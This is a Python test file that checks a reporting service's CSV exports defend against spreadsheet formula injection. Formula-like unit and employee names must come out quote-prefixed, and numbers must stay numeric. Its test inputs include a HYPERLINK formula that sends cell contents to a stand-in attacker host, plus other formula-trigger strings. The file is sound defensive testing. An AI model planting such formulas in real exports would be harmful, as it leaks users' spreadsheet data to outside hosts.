"""CSV exports never hand a spreadsheet a formula (OWASP "CSV Injection"): a unit or an
employee named like a formula comes out as text with a leading ``'``, through the export
endpoints on a real PostgreSQL; numbers the report writes as numbers stay numbers."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import httpx
import pytest
from fastapi import FastAPI

from services.contracts.events import DirectoryUpdatedV2, EmployeeProfile, UnitRecord
from services.contracts.policy import Sector
from services.reporting import api
from services.runtime.csv_export import neutral
from tests.reporting.conftest import DAY, K, apply, at, nip, seed, verdict
from tests.support.tokens import Tokens

TENANT = "banten"
LEAK = '=HYPERLINK("http://evil.example/?leak="&A1,"Klik")'
HOSTILE = [LEAK, "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "  =1+1", " \n@cmd"]
E1, E2 = nip(1), nip(2)


@pytest.mark.parametrize("cell", HOSTILE)
def test_a_formula_cell_gets_the_text_marker(cell: str) -> None:
    assert neutral(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["Dinas Kesehatan", "", "2026-03-10 07:45:00 WIB", "3/5", "a=b", "Ya"])
def test_plain_text_is_unchanged(cell: str) -> None:
    assert neutral(cell) == cell


@pytest.mark.parametrize("number", [-5, 0, 20, -1.5, 33.3, None, True])
def test_numbers_stay_numbers(number: object) -> None:
    assert neutral(number) is number


def rows_of(response: httpx.Response) -> list[list[str]]:
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))


def assert_no_formula(rows: list[list[str]]) -> None:
    live = [cell for row in rows for cell in row if cell and (cell[0] in "=+-@\t\r" or cell.lstrip()[:1] in "=+-@")]
    assert not live, f"cells a spreadsheet would run: {live}"


async def test_hostile_unit_and_employee_names_are_exported_as_text(reporting) -> None:  # type: ignore[no-untyped-def]
    rt = reporting.rt
    await seed(rt, TENANT, employees=[(E1, "dinkes"), (E2, "dinkes")], sectors={"dinkes": Sector.CRITICAL})
    await apply(rt, TENANT,
                DirectoryUpdatedV2(entity="unit", unit=UnitRecord(id="dinkes", name=LEAK, sector=Sector.CRITICAL,
                                                                  effective_sector=Sector.CRITICAL)),
                DirectoryUpdatedV2(entity="employee", employee=EmployeeProfile(nip=E1, name="@SUM(A1:A9)",
                                                                               unit_id="dinkes")),
                DirectoryUpdatedV2(entity="employee", employee=EmployeeProfile(nip=E2, name="  -2+3",
                                                                               unit_id="dinkes")))
    await apply(rt, TENANT, verdict(E1, "apel", "late", captured=at(7, 50), late_minutes=20, kind=K.ATTENDANCE))
    assert await reporting.scheduler.scan(at(9, 15, 11)) >= 1
    app = FastAPI()
    app.state.runtime = rt
    for router in api.ROUTERS:
        app.include_router(router)
    admin = Tokens(Path(rt.settings.jwt_jwks_file).with_name("private.pem")).admin(TENANT)
    async with httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="http://reporting") as client:
        export = "/v1/reports/daily/export"
        summary = rows_of(await client.get(export, headers=admin, params={"date": str(DAY), "format": "csv"}))
        detail = rows_of(await client.get(export, headers=admin,
                                          params={"date": str(DAY), "format": "csv", "sheet": "rincian"}))
        monthly = rows_of(await client.get("/v1/reports/monthly/export", headers=admin,
                                           params={"month": "2026-03", "format": "csv"}))
    for rows in (summary, detail, monthly):
        assert_no_formula(rows)
    unit_row = next(row for row in summary[1:] if row[1] == "dinkes")
    assert unit_row[2] == "'" + LEAK
    names = {row[1]: row[2] for row in detail[1:]}
    assert names == {E1: "'@SUM(A1:A9)", E2: "'  -2+3"}
    late = next(row for row in detail[1:] if row[1] == E1 and row[5] == "Apel pagi")
    assert late[detail[0].index("Terlambat (menit)")] == "20"  # a number, not "'20"
    assert {row[2] for row in monthly[1:]} == {"'@SUM(A1:A9)", "'  -2+3"}
